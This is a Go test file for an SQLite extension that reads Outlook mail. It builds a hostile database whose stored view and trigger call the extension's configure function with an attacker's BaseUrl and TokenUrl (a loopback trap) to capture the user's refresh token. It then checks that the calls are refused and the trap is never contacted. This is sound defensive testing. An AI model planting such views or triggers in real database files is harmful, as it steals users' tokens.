package main

import (
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/outlooksql/outlooksql/internal/demo"
	"github.com/outlooksql/outlooksql/internal/fakegraph"
)

// TestHostileDatabaseFile opens a .db that an attacker prepared in the stock
// sqlite3 shell with the extension loaded: a view and a trigger stored in
// the file call outlooksql_configure with a BaseUrl and TokenUrl of the
// attacker's (a loopback listener here), hoping to receive the user's token.
// SQLite must refuse both calls ("unsafe use of …", the function is
// DIRECTONLY) and the listener must receive nothing, while the user's own
// configuration, views over the mail tables stored in the file, and the
// user's own queries keep working.
func TestHostileDatabaseFile(t *testing.T) {
	shell, so := extension(t)

	// The attacker's server: counts every connection made to it.
	trap, err := fakegraph.NewTrap()
	if err != nil {
		t.Fatal(err)
	}
	defer trap.Close()
	evil := trap.URL()

	tenant := fakegraph.Generate(fakegraph.GenConfig{Seed: 7, Users: 1, MessagesPerUser: 20})
	env, err := demo.Start(tenant)
	if err != nil {
		t.Fatal(err)
	}
	defer env.Close()

	// The attacker knows where the victim's token file is (a default
	// path) and points everything else at the listener.
	hostileConn := strings.Join([]string{
		"BaseUrl=" + evil + "/v1.0",
		"TokenUrl=" + evil + "/token",
		"ClientId=" + fakegraph.ClientID,
		"RefreshTokenFilePath={" + env.TokenFile + "}",
	}, ";")
	call := "outlooksql_configure('" + strings.ReplaceAll(hostileConn, "'", "''") + "')"
	db := filepath.Join(t.TempDir(), "hostile.db")
	// The file is made without the extension: SQLite stores the SQL.
	_, stderr := runScript(t, shell, db, strings.Join([]string{
		"CREATE TABLE notes(x);",
		"CREATE VIEW report AS SELECT " + call + " AS c, (SELECT count(*) FROM messages) AS n;",
		"CREATE TRIGGER grab AFTER INSERT ON notes BEGIN SELECT " + call + "; SELECT count(*) FROM messages; END;",
		"CREATE VIEW unread AS SELECT count(*) AS n FROM messages WHERE is_read = 0;",
	}, "\n"))
	if stderr != "" {
		t.Fatalf("making the hostile file: %s", stderr)
	}

	var unread int
	for _, m := range tenant.Users[0].Messages {
		if !m.IsRead {
			unread++
		}
	}
	stdout, stderr := runScript(t, shell, db, strings.Join([]string{
		".load " + so,
		".mode list",
		"SELECT * FROM report;",
		"INSERT INTO notes VALUES (1);",
		"SELECT outlooksql_configure('" + strings.ReplaceAll(env.ConnString(), "'", "''") + "') > 0;", // the user's own
		"SELECT 'count', count(*) FROM messages;",                                                     // the user's query still goes to the user's server
		"SELECT 'unread', n FROM unread;",                                                             // a view over the mail tables in the file works
		"SELECT 'notes', count(*) FROM notes;",
	}, "\n"))

	if n := trap.Contacted(); n != 0 {
		t.Errorf("the attacker's listener was contacted %d times", n)
	}
	if want := "unsafe use of outlooksql_configure()"; strings.Count(stderr, want) != 2 {
		t.Errorf("stderr should say %q twice (view and trigger), got:\n%s", want, stderr)
	}
	wantOut := strings.Join([]string{
		"1",
		"count|" + strconv.Itoa(len(tenant.Users[0].Messages)),
		"unread|" + strconv.Itoa(unread),
		"notes|0",
		"",
	}, "\n")
	if stdout != wantOut {
		t.Errorf("stdout:\n%s\nwant:\n%s\n(stderr: %s)", stdout, wantOut, stderr)
	}
	if strings.Contains(stdout+stderr, fakegraph.ClientSecret) {
		t.Error("the client secret appears in the shell's output")
	}
}
